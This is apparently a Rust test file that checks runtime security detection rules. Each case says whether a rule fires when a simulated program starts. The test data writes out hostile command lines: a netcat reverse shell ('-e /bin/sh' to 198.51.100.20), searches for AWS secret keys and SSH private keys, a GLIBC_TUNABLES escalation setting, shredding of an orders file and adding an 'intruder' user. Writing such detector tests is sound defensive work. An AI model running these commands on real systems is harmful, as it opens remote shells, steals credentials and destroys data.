//! Rules on programs whose mere start, by name, arguments and environment, is worth a word.

use super::{HOST, PLAIN};
use crate::case::Move::Run;
use crate::case::{Case, Program};

/// A program of ours that runs one other program under its own eyes.
macro_rules! below_worker {
    ($program:expr) => {
        Program::new("/usr/bin/worker", &[Run($program)])
    };
}

pub(super) const CASES: &[Case] = &[
    Case::fires(
        "Find AWS Credentials",
        "grep",
        HOST,
        "grep",
        below_worker!(Program::applet("/bin/grep", &["-l", "aws_secret_access_key", "/home/shop/settings"])),
    ),
    Case::silent(
        "Find AWS Credentials",
        "other word",
        HOST,
        below_worker!(Program::applet("/bin/grep", &["-l", "aws_region", "/home/shop/settings"])),
    ),
    Case::fires(
        "Launch Ingress Remote File Copy Tools in Container",
        "wget",
        PLAIN,
        "wget",
        below_worker!(Program::new("/usr/bin/wget", &[])),
    ),
    Case::silent(
        "Launch Ingress Remote File Copy Tools in Container",
        "curl to standard output",
        PLAIN,
        below_worker!(Program::new("/usr/bin/curl", &[]).args(&["-s", "http://198.51.100.20/"])),
    ),
    Case::fires(
        "Launch Package Management Process in Container",
        "apk",
        PLAIN,
        "apk",
        below_worker!(Program::new("/sbin/apk", &[]).args(&["add", "nmap"])),
    ),
    Case::silent(
        "Launch Package Management Process in Container",
        "on the host",
        HOST,
        below_worker!(Program::new("/sbin/apk", &[]).args(&["add", "nmap"])),
    ),
    Case::fires(
        "Launch Remote File Copy Tools in Container",
        "rsync",
        PLAIN,
        "rsync",
        below_worker!(Program::new("/usr/bin/rsync", &[])),
    ),
    Case::silent(
        "Launch Remote File Copy Tools in Container",
        "on the host",
        HOST,
        below_worker!(Program::new("/usr/bin/rsync", &[])),
    ),
    Case::fires(
        "Launch Suspicious Network Tool in Container",
        "nmap",
        PLAIN,
        "nmap",
        below_worker!(Program::new("/usr/bin/nmap", &[])),
    ),
    Case::silent(
        "Launch Suspicious Network Tool in Container",
        "on the host",
        HOST,
        below_worker!(Program::new("/usr/bin/nmap", &[])),
    ),
    Case::fires(
        "Launch Suspicious Network Tool on Host",
        "nmap",
        HOST,
        "nmap",
        below_worker!(Program::new("/usr/bin/nmap", &[])),
    ),
    Case::silent(
        "Launch Suspicious Network Tool on Host",
        "in a container",
        PLAIN,
        below_worker!(Program::new("/usr/bin/nmap", &[])),
    ),
    Case::fires(
        "Netcat Remote Code Execution in Container",
        "-e",
        PLAIN,
        "nc",
        below_worker!(Program::new("/usr/bin/nc", &[]).args(&["198.51.100.20", "443", "-e", "/bin/sh"])),
    ),
    Case::silent(
        "Netcat Remote Code Execution in Container",
        "plain connection",
        PLAIN,
        below_worker!(Program::new("/usr/bin/nc", &[]).args(&["198.51.100.20", "443"])),
    ),
    Case::fires(
        "Potential Local Privilege Escalation via Environment Variables Misuse",
        "GLIBC_TUNABLES",
        HOST,
        "target",
        below_worker!(Program::new("/usr/bin/target", &[]).env(&[("GLIBC_TUNABLES", "glibc.malloc.check=0")])),
    ),
    Case::silent(
        "Potential Local Privilege Escalation via Environment Variables Misuse",
        "other variable",
        HOST,
        below_worker!(Program::new("/usr/bin/target", &[]).env(&[("MALLOC_CHECK_", "0")])),
    ),
    Case::fires(
        "Program run with disallowed http proxy env",
        "curl with a proxy",
        HOST,
        "curl",
        below_worker!(Program::new("/usr/bin/curl", &[]).env(&[("HTTP_PROXY", "http://198.51.100.20:3128")])),
    ),
    Case::silent(
        "Program run with disallowed http proxy env",
        "curl without",
        HOST,
        below_worker!(Program::new("/usr/bin/curl", &[])),
    ),
    Case::fires(
        "Remove Bulk Data from Disk",
        "shred",
        HOST,
        "shred",
        below_worker!(Program::new("/usr/bin/shred", &[]).args(&["-u", "/home/shop/orders.csv"])),
    ),
    Case::silent(
        "Remove Bulk Data from Disk",
        "rm",
        HOST,
        below_worker!(Program::applet("/bin/rm", &["/home/shop/orders.csv"])),
    ),
    Case::fires(
        "Schedule Cron Jobs",
        "crontab",
        HOST,
        "crontab",
        below_worker!(Program::new("/usr/bin/crontab", &[]).args(&["-l"])),
    ),
    Case::fires(
        "Search Private Keys or Passwords",
        "find",
        HOST,
        "find",
        below_worker!(Program::applet("/bin/find", &["/home", "-name", "id_rsa"])),
    ),
    Case::fires(
        "Search Private Keys or Passwords",
        "grep",
        HOST,
        "grep",
        below_worker!(Program::applet("/bin/grep", &["-l", "BEGIN RSA PRIVATE", "/root/.ssh/id_rsa"])),
    ),
    Case::silent(
        "Search Private Keys or Passwords",
        "other name",
        HOST,
        below_worker!(Program::applet("/bin/find", &["/home", "-name", "orders.csv"])),
    ),
    Case::fires(
        "User mgmt binaries",
        "useradd",
        HOST,
        "useradd",
        below_worker!(Program::new("/usr/sbin/useradd", &[]).args(&["intruder"])),
    ),
    Case::silent(
        "User mgmt binaries",
        "defaults shown",
        HOST,
        below_worker!(Program::new("/usr/sbin/useradd", &[]).args(&["-D"])),
    ),
];
